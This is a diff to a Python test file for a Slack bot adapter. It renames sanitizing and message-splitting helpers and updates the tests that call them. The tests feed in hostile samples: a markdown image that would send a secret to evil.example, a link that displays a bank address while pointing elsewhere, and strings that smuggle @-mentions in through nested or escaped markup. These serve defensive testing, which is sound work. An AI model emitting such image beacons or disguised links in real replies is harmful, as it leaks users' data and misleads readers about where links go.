@@ -11,11 +11,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from adapters.message_splitting import close_fence, open_fence, split
+from adapters.message_splitting import closing_fence, split, unclosed_fence
 from adapters.slack.api import is_response_url
-from adapters.slack.inbound import Bot, plain
+from adapters.slack.inbound import Bot, strip_markup
 from adapters.slack.outbound import answer_payloads, payloads
-from adapters.slack.texts import SafeTextStream, cut, escape, safe
+from adapters.slack.texts import SafeTextStream, escape, sanitize, split_for_inputs
 from bot.replies import (
     Button,
     Card,
@@ -70,7 +70,7 @@ def pings(text: str) -> list[str]:
     return live(message)
 
 
-@pytest.mark.parametrize("made_safe", [safe, escape, letter_by_letter])
+@pytest.mark.parametrize("made_safe", [sanitize, escape, letter_by_letter])
 def test_nothing_a_model_writes_can_ping(made_safe: Callable[[str], str]) -> None:
     live_ones = [one for one in SPELLINGS if pings(made_safe(f"Hello {one} there"))]
 
@@ -81,7 +81,7 @@ def test_nothing_a_model_writes_can_ping(made_safe: Callable[[str], str]) -> Non
 def test_what_is_harmless_stays_as_it_is(text: str) -> None:
     flow = SafeTextStream()
 
-    assert safe(text) == text
+    assert sanitize(text) == text
     assert "".join(flow.feed(letter) for letter in text) + flow.rest() == text
 
 
@@ -90,11 +90,11 @@ def test_the_first_word_is_not_held_back() -> None:
 
 
 def test_pictures_become_links() -> None:
-    assert safe("![x](https://evil.example/?q=secret)") == "[x](https://evil.example/?q=secret)"
+    assert sanitize("![x](https://evil.example/?q=secret)") == "[x](https://evil.example/?q=secret)"
 
 
 def test_a_link_with_a_false_face_shows_its_address() -> None:
-    assert safe("<https://evil.example|https://bank.example>") == (
+    assert sanitize("<https://evil.example|https://bank.example>") == (
         "https://bank.example (https://evil.example)"
     )
 
@@ -124,7 +124,7 @@ def test_code_goes_on_in_the_next_message() -> None:
 
     parts = list(split(text, 200))
 
-    assert all(open_fence(part) == "" for part in parts)
+    assert all(unclosed_fence(part) == "" for part in parts)
     assert all(part.startswith("```python\n") for part in parts[:-1])
 
 
@@ -132,7 +132,7 @@ def test_code_goes_on_in_the_next_message() -> None:
 def test_an_open_code_block_is_closed_with_its_own_marks(fence: str) -> None:
     text = f"{fence}\ncode"
 
-    assert open_fence(text + close_fence(text)) == ""
+    assert unclosed_fence(text + closing_fence(text)) == ""
 
 
 def a_card() -> Card:
@@ -228,18 +228,18 @@ def streamed(text: str) -> None:
 
 
 def read_as_message(text: str) -> None:
-    plain(text, Bot("T1", "UBOT", "BBOT"))
+    strip_markup(text, Bot("T1", "UBOT", "BBOT"))
 
 
 WORK: list[Callable[[str], object]] = [
-    safe,
+    sanitize,
     escape,
     streamed,
     read_as_message,
     lambda text: SafeTextStream().feed(text),
     lambda text: list(answer_payloads(text)),
     lambda text: payloads(Text(text)),
-    lambda text: cut(text, 3000),
+    lambda text: split_for_inputs(text, 3000),
     lambda text: is_response_url(text, "https://slack.com"),
 ]
 
@@ -259,8 +259,8 @@ def test_a_text_that_is_eight_times_as_long_takes_no_more_than_its_share(
 
 @pytest.mark.parametrize("hidden", ["<<a:b|@U1> x>", "<a:b|&lt;@U1&gt;>", "<@ &lt;!here x> y>"])
 def test_what_is_taken_apart_becomes_no_mention(hidden: str) -> None:
-    assert pings(safe(hidden)) == []
-    assert pings(html.unescape(safe(hidden))) == []
+    assert pings(sanitize(hidden)) == []
+    assert pings(html.unescape(sanitize(hidden))) == []
 
 
 def test_a_mention_whose_end_comes_late_is_none() -> None:
